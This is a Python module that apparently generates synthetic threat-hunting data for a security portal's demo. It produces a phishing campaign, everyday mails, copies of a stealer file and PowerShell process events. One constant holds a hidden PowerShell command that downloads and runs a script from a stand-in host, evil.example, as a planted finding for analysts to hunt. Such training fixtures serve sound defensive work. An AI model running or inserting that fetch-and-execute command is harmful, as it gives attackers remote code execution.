"""What there is to hunt for in the demo besides its alerts: other letters of a campaign, copies of a file, scripts."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any, Final

from investigations.states import AutomationLevel
from portal.demo.companies import Company
from portal.demo.scenery import DOWNLOADS, message_id, moment, sha1_of

Json = dict[str, Any]

PHISHING_URL: Final = "https://login-check.example/renew"
SENDER: Final = "billing@overdue-invoice.example"
PHISHING_SUBJECT: Final = "Overdue invoice, act today"
PEOPLE: Final = ("a.berg", "c.dahl", "e.foss", "g.hagen", "i.juhl", "k.lund")
_PAYSLIP: Final = "Your payslip is ready"
_EVERYDAY: Final = (
    ("newsletter@trade-weekly.example", "This week in the trade", 5),
    ("payroll@payday.example", _PAYSLIP, 26),
    ("no-reply@parcel.example", "Your parcel has been delivered", 30),
    ("events@chamber.example", "Invitation: winter meeting", 50),
)
_COMMAND: Final = (
    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://evil.example/s.ps1')\""
)


def hunting_ground(company: Company) -> Json:
    """Return mails and events of the last days for the simulator."""
    return {"emails": [*_campaign(company), *_letters(company)], "events": [*_copies(company), *_scripts(company)]}


def letter_to(company: Company, person: str) -> str:
    """Return the message id of the campaign's letter to one of the people."""
    return message_id(f"{company.slug}-{_letter(person)}")


def payslip_to(company: Company, person: str) -> str:
    """Return the message id of somebody's payslip."""
    return message_id(f"{company.slug}-{_PAYSLIP}-{person}")


def _letter(person: str) -> str:
    return f"invoice-to-{person}"


def _campaign(company: Company) -> Iterator[Json]:
    """The phishing mail that the opening alert tells of, and the same in six mailboxes that no alert names."""
    known = [("invoice-1", "reception"), ("invoice-2", "accounts")]
    for number, (name, person) in enumerate([*known, *((_letter(person), person) for person in PEOPLE)]):
        yield {
            **_mail(company, name, f"{person}@{company.domain}", SENDER, hours=2 + number),
            "subject": PHISHING_SUBJECT,
            "urls": [{"url": PHISHING_URL, "threatType": "phish", "detectionMethod": "URL detonation"}],
        }


def _letters(company: Company) -> Iterator[Json]:
    for sender, subject, hours in _EVERYDAY:
        for person in PEOPLE[:3]:
            yield {
                **_mail(company, f"{subject}-{person}", f"{person}@{company.domain}", sender, hours=hours),
                "subject": subject,
                "threatTypes": ["none"],
                "detectionMethods": [],
            }


def _mail(company: Company, name: str, recipient: str, sender: str, *, hours: int) -> Json:
    domain = sender.partition("@")[2]
    return {
        "networkMessageId": message_id(f"{company.slug}-{name}"),
        "recipientEmailAddress": recipient,
        "loggedDateTime": _ago(hours),
        "senderDetail": {
            "fromAddress": sender,
            "mailFromAddress": sender,
            "domainName": domain,
            "mailFromDomainName": domain,
            "displayName": domain.partition(".")[0],
            "ipv4": "198.51.100.23",
        },
    }


def _copies(company: Company) -> Iterator[Json]:
    """The stealer of the opening alert, on two devices where nothing was raised."""
    for number in (4, 5):
        machine = company.machine(AutomationLevel.SEMI_CORE_FOLDERS, number)
        yield {
            "table": "DeviceFileEvents",
            "Timestamp": _ago(20 + number),
            "DeviceId": machine["id"],
            "DeviceName": machine["computerDnsName"],
            "ActionType": "FileCreated",
            "FileName": "invoice_8841.exe",
            "FolderPath": f"{DOWNLOADS}\\invoice_8841.exe",
            "SHA1": sha1_of(f"{company.slug}-stealer"),
            "InitiatingProcessFileName": "chrome.exe",
        }


def _scripts(company: Company) -> Iterator[Json]:
    machine = company.machine(AutomationLevel.FULL, 6)
    for command, process_id, hours in (
        (_COMMAND, 6112, 9),
        ("powershell.exe -File C:\\Tools\\inventory.ps1", 4920, 12),
    ):
        yield {
            "table": "DeviceProcessEvents",
            "Timestamp": _ago(hours),
            "DeviceId": machine["id"],
            "DeviceName": machine["computerDnsName"],
            "ActionType": "ProcessCreated",
            "FileName": "powershell.exe",
            "FolderPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "ProcessId": process_id,
            "ProcessCommandLine": command,
            "AccountName": "j.holm",
            "InitiatingProcessFileName": "explorer.exe",
        }


def _ago(hours: int) -> str:
    return moment(datetime.now(UTC) - timedelta(hours=hours))
